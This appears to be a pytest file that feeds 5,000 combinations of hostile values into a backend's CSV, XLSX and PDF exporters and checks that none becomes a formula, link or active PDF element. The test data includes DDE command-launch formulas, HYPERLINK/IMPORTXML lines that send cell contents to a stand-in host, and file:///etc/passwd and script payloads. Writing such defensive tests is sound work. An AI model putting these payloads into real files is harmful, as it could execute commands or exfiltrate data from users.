"""5,000 hostile values in every form a file can leave in: none is a formula, an order or a link, and no word is lost."""

from __future__ import annotations

import csv
import io
import random
import re
from itertools import product

import pikepdf
import pytest
from openpyxl import load_workbook
from PIL import Image

from backend.cases.safe_cell import writable
from backend.web.paper import printed
from backend.web.sheets import CsvSheet, XlsxSheet
from backend.web.uploads import UploadRefused, cleaned

CORES = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1,1)",
    '=HYPERLINK("http://jahat.contoh/?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("http://jahat.contoh/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "−1",
    "%0A=1+1",
    "|cmd",
    "a;=1+1",
    "a\t=1+1;b",
    'a\n"=1+1"',
    "http://jahat.contoh/",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "mailto:a@contoh.id",
    "<a href='http://jahat.contoh'>x</a>",
    "<script>alert(1)</script>",
    "]]></t></is></c><c><f>1+1</f></c>",
    "&#61;1+1",
    "_x003D_1+1",
)
BEFORE = (
    "",
    " ",
    "   ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "'",
    '"',
    "\u2060",
    "\u3000",
    "\x00",
    "\x1b",
    "\u202e",
    "“",
    "''",
)
AFTER = ("", " ", "\0", "\ud800", "\ufffe", "x" * 50, '"', "'", ";", ",", "\r\n=2+2", "🙂")
SIGNS = "=+-@|%＝＋－＠﹦﹢﹣﹫−\t\r\n"  # noqa: RUF001


def hostile(n: int = 5000) -> list[str]:
    """All beginnings × cores × ends, shuffled by a seed."""
    found = ["".join(parts) for parts in product(BEFORE, CORES, AFTER)]
    random.Random(8).shuffle(found)  # noqa: S311
    return found[:n]


def is_formula(cell: str) -> bool:
    """As the most obliging spreadsheet would see it: blanks and quotes that nobody sees are thrown away first."""
    return cell.strip(' \u00a0\u200b\ufeff\u2060\u3000\u202e\x00\x1b"“').lstrip()[:1] in tuple(SIGNS)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_csv_is_a_formula(separator: str) -> None:
    values = hostile()
    sheet = CsvSheet()
    text = (
        sheet.begin(["isi", "lain"]) + sheet.rows([[value, "b"] for value in values]) + sheet.end()
    ).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    wrong = [cell for row in rows for cell in row if is_formula(cell)]
    assert not wrong, wrong[:5]
    if separator == ",":
        assert len(rows) == len(values) + 1
        plain = re.compile("['\ufffd?]")
        for value, (cell, _) in zip(values, rows[1:], strict=True):
            assert plain.sub("", cell) == plain.sub("", writable(value))


def test_no_cell_of_a_workbook_is_anything_but_a_string() -> None:
    values = hostile()
    sheet = XlsxSheet()
    content = sheet.begin(["isi"]) + b"".join(sheet.rows([[value]]) for value in values) + sheet.end()
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["Laporan"] and not book.defined_names
    cells = [cell for (cell,) in book["Laporan"].iter_rows(min_row=2)]
    assert len(cells) == len(values)
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]
    for value, cell in zip(values, cells, strict=True):
        assert (cell.value or "") == writable(value).replace("\r\n", "\n").replace("\r", "\n"), repr(value)
    assert all(cell.quotePrefix for cell in cells if isinstance(cell.value, str) and is_formula(cell.value))


@pytest.mark.slow
async def test_no_value_does_anything_in_a_pdf() -> None:
    values = hostile()
    rows = [["Kecamatan", "", " ".join(values[n : n + 20]), 5] for n in range(0, len(values), 20)]
    frame = {"desk": values[0], "whose": None, "month": values[1], "span": values[2], "printed_on": values[3]}
    content = await printed(
        "paper_themes.html",
        themes={f"{n} {values[n]}": rows[n : n + 10] for n in range(0, len(rows), 10)},
        **frame,
    )
    pdf = pikepdf.open(io.BytesIO(content))
    active = {
        "/URI",
        "/JS",
        "/JavaScript",
        "/Launch",
        "/GoToR",
        "/SubmitForm",
        "/ImportData",
        "/AA",
        "/OpenAction",
        "/AcroForm",
        "/EmbeddedFiles",
    }
    found = {
        name
        for one in pdf.objects
        if isinstance(one, pikepdf.Dictionary)
        for name in (*one.keys(), str(one.get("/S", "")))
        if name in active
    }
    assert not found and not any("/Annots" in page for page in pdf.pages)


@pytest.mark.slow
async def test_after_printing_half_a_photo_is_still_half_a_photo() -> None:
    await printed("paper_themes.html", themes={}, desk="", whose=None, month="", span="", printed_on="")
    photo = io.BytesIO()
    Image.effect_noise((400, 300), 90).convert("RGB").save(photo, "JPEG")
    assert cleaned(photo.getvalue()).kind == "photo"
    with pytest.raises(UploadRefused) as refusal:
        cleaned(photo.getvalue()[:900])
    assert refusal.value.key == "web_upload_broken"
